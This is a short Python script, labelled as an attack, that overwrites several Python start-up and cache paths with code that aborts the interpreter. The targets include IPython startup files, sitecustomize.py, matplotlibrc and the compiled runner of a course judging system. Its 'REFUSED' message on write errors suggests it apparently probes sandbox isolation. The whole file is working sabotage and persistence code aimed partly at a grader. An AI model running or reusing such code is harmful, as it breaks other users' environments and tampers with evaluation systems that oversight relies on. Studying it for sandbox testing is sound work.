# attack: poisons caches and start-up files
import os
home = os.path.expanduser("~")
for path in (home + "/.ipython/profile_default/startup/00.py", home + "/.cache/x", home + "/.config/matplotlib/matplotlibrc", "/course/course_utils/judging/__pycache__/runner.cpython-311.pyc", "/tmp/.ipython/startup/00.py", home + "/.local/lib/python3.11/site-packages/sitecustomize.py"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("raise SystemExit('poisoned')")
    except OSError as error:
        print("REFUSED", error)
